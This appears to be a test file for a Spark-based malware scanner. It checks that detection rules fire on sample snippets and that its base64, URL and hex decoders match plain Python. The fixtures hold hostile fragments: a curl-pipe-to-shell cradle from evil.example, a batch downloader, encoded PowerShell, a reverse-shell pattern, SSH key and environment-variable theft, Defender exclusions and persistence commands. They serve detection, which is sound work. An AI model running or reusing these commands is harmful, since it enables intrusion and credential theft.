"""The text rules one by one, and the decoders against plain Python."""

import base64
import re
from urllib.parse import unquote

import pytest
from pyspark.sql import functions as F

from trawl.functions import rules
from trawl.functions.text import decode_layers, host_port
from trawl.operators import static

FIRES = {
    "RT-H1": "connect('abc.ngrok.io')", "RT-H2": "get catbox.moe/x", "RT-H3": "https://Discord.com/api/webhooks/1", "RT-H4": "sendMessage?chat_id=4", "RT-H5": "https://a.herokuapp.com",
    "RT-H6": "x.undefined7", "RT-H7": "sheets.googleapis.com/v4/spreadsheets/ab/values", "RT-H8": "stratum+tcp://pool", "RT-C1": "api.mainnet-beta", "RT-P1": "http://45.1.2.3/x",
    "RT-P2": "executeCommand('workbench.extensions.installExtension')", "RT-P3": "fs.readFileSync(home + '/.ssh/' + k)", "RT-P4": "schtasks /create /tn x", "RT-P5": "crontab -l",
    "RT-P6": "Add-MpPreference -ExclusionPath C", "RT-P7": "vscode.env.machineId", "RT-P8": "clipboard.readText().then(t => /0x" + "a" * 40 + "/)", "RT-T2": "JSON.stringify(process.env)",
}
SHARED = {
    "downloads an executable/script binary from a non-distribution host": "get('http://evil.example/a.exe')",
    "host reconnaissance battery (3 enumeration commands incl. 1 account/privilege probe(s))": "child_process; whoami /priv; tasklist; systeminfo",
    "executes a child process with windowsHide:true (concealed execution)": "child_process; windowsHide: true",
    "reverse shell pattern (outbound TCP socket spawning a shell interpreter in the same file)": "child_process; net.connect(1); '/bin/sh'",
    "drops an executable into a temp directory and launches it (dropper)": "child_process; os.tmpdir() + '/a.exe'",
    "javascript-obfuscator string-array decoder present (deliberate code hiding)": "var _0xabcd12 = []",
    rules.CRADLE_REASON: "const c = 'curl http://evil.example/a.sh | sh'",
    rules.ENCODED_REASON: "powershell -enc " + "QUJD" * 12,
}


def scan(spark, files):
    rows = static.findings(spark.createDataFrame(files, "sample_key string, path string, content string")).collect()
    return {(r.sample_key, r.reason) for r in rows}


def test_every_text_rule_fires(spark):
    reasons = {r.id: r.reason for r in rules.TEXT_RULES}
    assert FIRES.keys() == reasons.keys()
    got = scan(spark, [(k, "src/a.js", t) for k, t in FIRES.items()] + [("none", "a.js", "plain prose, nothing else"), ("null", "a.js", None)])
    assert {(k, reasons[k]) for k in FIRES} <= got and not {k for k, _ in got} & {"none", "null"}
    inside = scan(spark, [(k, "node_modules/m/a.js", t) for k, t in FIRES.items()])
    assert {k for k, r in inside if r == reasons[k]} == {r.id for r in rules.TEXT_RULES if r.scope == "all"}


def test_combined_rules_fire(spark):
    script = {rules.ENCODED_REASON: "run.ps1"}
    got = scan(spark, [(r, script.get(r, "src/a.js"), t) for r, t in SHARED.items()])
    assert {(r, r) for r in SHARED} <= got
    variables = "set U=http://evil.example/p.exe\nset T=curl\n%T% %U% -o a.exe\nstart a.exe\nstart \"\" \"a.exe\"\n"
    assert ("bat", rules.CRADLE_REASON) in scan(spark, [("bat", "x.bat", variables)])
    assert ("dep", "obfuscated dependency in node_modules invoking process execution (supply-chain trojan)") in scan(spark, [("dep", "node_modules/m/a.js", "var _0xabcd = 1; spawn(x)")])
    hidden = "\\x68\\x74\\x74p://45.1.2.3/ " + base64.b64encode(b"var target = 'abc.ngrok.io'; connect(target)").decode()
    assert {("esc", r.reason) for r in rules.TEXT_RULES if r.id in ("RT-P1", "RT-H1")} <= scan(spark, [("esc", "a.js", hidden)])


def test_gates_lose_no_match():
    """Whatever a pattern matches holds one of its literals."""
    for rule in rules.TEXT_RULES:
        needed = rules.needed(rule.pattern)
        assert needed and any(x in FIRES[rule.id].lower() for x in needed), rule.id
    assert rules.needed(r"(?:abc)?def") == ["def"] and rules.needed(r"abc|x") == [] and rules.needed(r"(?i)a[bc]d") == [] and rules.needed(r"(?:one|two)+\d") == ["one", "two"]


def plain_layers(text):
    """What the text may hide, by Python's own decoders."""

    def readable(t):
        head = t[:2000]
        return bool(head) and sum(c in "\t\n\r" or " " <= c <= "~" or c > "\xa0" for c in head) / len(head) > 0.85

    def b64(t):
        bare = re.sub(r"[\s=]", "", t)
        bare = bare[: len(bare) - (len(bare) % 4 == 1)]
        return base64.b64decode(bare + "=" * (-len(bare) % 4)).decode("utf-8", "replace")

    found = [text]
    if re.fullmatch(r"[A-Za-z0-9+/=\s]{16,}", text.strip()) and readable(b64(text)):
        found.append(b64(text))
    found += [d for d in map(b64, re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", text)[:16]) if readable(d) and len(d) > 8]
    found.append(unquote(text.replace("+", " ")))
    if m := re.search(r"\b([0-9a-fA-F]{32,})\b", text):
        plain = bytes.fromhex(m[1][: len(m[1]) // 2 * 2]).decode("utf-8", "replace")
        found += [plain] if readable(plain) else []
    return list(dict.fromkeys(found))


@pytest.mark.parametrize(
    "text",
    ["", "short", base64.b64encode(b"a plain secret text").decode(), "body=" + base64.b64encode("grüße an alle Leser".encode()).decode() + "&x=" + base64.b64encode(b"second run of text here").decode(), "a%20b%2Fc%C3%BC", "id " + b"hidden in hexadecimal digits".hex() + " end", "00ff" * 20],
)
def test_decode_layers_equal_plain_decoders(spark, text):
    assert spark.createDataFrame([(text,)], "t string").select(decode_layers(F.col("t"))).first()[0] == plain_layers(text)


def test_decode_layers_on_the_table(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet").where("text NOT LIKE '%\\%%'")
    for r in docs.select("text", decode_layers(docs.text).alias("layers")).collect():
        assert r.layers == plain_layers(r.text)


def test_hosts(spark):
    df = spark.createDataFrame([("http://[::1]:8080/x",), ("https://[2001:DB8::1]/",), ("h.example:443",), ("https://u@H.example:443/",)], "t string")
    assert [(r.h.domain, r.h.port) for r in df.select(host_port(df.t).alias("h")).collect()] == [("[::1]", "8080"), ("[2001:db8::1]", ""), ("h.example", "443"), ("h.example", "")]
